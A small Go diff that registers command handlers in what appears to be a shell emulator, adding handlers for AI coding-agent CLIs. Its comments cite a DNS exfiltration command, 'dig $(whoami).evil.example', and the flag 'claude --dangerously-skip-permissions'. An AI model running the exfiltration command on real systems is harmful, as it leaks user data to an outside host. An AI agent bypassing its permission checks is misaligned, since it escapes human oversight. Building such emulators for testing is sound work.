@@ -52,6 +52,9 @@ func loadPrograms() {
 		addDNSHandlers(handlers)             // dnsexfil.go: dig $(whoami).evil.example
 		addTextToolHandlers(handlers)        // texttools.go: iconv, bc, history
 		handlers["gotestsum"] = gotestsumCmd // gotestsum.go: go test behind a formatter
+		for _, n := range []string{"claude", "codex", "gemini", "aider"} {
+			handlers[n] = agentCLICmd // agentcli.go: claude --dangerously-skip-permissions
+		}
 		programs.handlers, programs.codeRunners = handlers, codeRunners
 	})
 }
